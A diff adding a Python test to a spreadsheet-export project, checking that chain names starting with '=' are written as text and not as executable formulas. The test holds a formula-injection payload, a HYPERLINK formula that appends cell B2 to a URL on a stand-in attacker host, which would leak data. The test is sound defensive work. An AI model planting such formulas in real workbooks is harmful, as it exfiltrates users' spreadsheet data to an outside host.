@@ -141,3 +141,22 @@ def test_round_trip_keeps_awkward_floats_exactly(tmp_path: Path, data: st.DataOb
     back = read_workbook(xlsx)
     assert differences(back, original) == []
     assert back == original
+
+
+def test_text_starting_with_equals_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
+    """A name in a chain (or an intervention, an IATI title...) that starts with ``=`` is text:
+    written as a formula, the spreadsheet would run it (``=HYPERLINK``, ``=WEBSERVICE`` sending
+    the sheet's cells away) and the workbook would read back without it (no cached value)."""
+    import zipfile
+
+    payload = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    original = chain.read_chain(SMALL).model_copy(update={"name": payload, "product": "=1+1"})
+    xlsx = tmp_path / "chain.xlsx"
+    write_template(xlsx, original)
+    with zipfile.ZipFile(xlsx) as zf:
+        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        for part in sheets:
+            assert b"<f>" not in zf.read(part), part
+    assert load_workbook(xlsx)["chain"]["B2"].data_type == "s"
+    assert read_workbook(xlsx) == original
